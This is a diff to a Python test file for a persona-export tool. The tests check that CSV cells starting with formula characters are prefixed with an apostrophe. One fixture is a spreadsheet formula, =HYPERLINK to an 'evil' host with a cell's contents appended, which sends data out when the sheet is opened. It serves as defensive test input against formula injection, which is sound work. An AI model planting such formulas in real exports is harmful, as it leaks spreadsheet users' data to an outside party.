@@ -3,13 +3,12 @@ import gzip
 import json
 from pathlib import Path
 
-from builders import persona_lines
 from command import RunAloe
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from aloe.files.tables import FORMULAS, guard_formula
-from aloe.memory.personas import read_personas
+from aloe.memory.personas import as_lines, read_personas
 from aloe.schema import Persona
 
 NEAREST = Path(__file__).parents[2] / "golden" / "nearest.json"
@@ -65,11 +64,13 @@ def test_no_cell_of_a_table_begins_as_a_formula(text: str) -> None:
 def test_a_formula_in_a_persona_is_guarded_and_that_is_said(tmp_path: Path, aloe: RunAloe) -> None:
     command = '=HYPERLINK("http://evil/?"&A1)'
     pool = tmp_path / "pool.jsonl"
-    pool.write_text(persona_lines([Persona.of(f"{command} I dive.", "- I shout.")]))
+    odd = Persona.of(f"{command} I dive.", "- I shout.", id="=1+1")
+    pool.write_text(as_lines([odd]))
     export = ("personas", "export", pool, "--format", "csv", "--out")
     ran = aloe(*export, tmp_path / "p.csv")
-    assert "put a ' before 2 texts" in ran.err
+    assert "put a ' before 3 texts" in ran.err
     (row,) = csv.DictReader((tmp_path / "p.csv").read_text().splitlines())
+    assert row["id"] == "'=1+1"
     assert row["profile"] == f"'{command} I dive."
     assert row["personality"] == "'- I shout."
     assert aloe(*export, tmp_path / "raw.csv", "--raw").err == ""
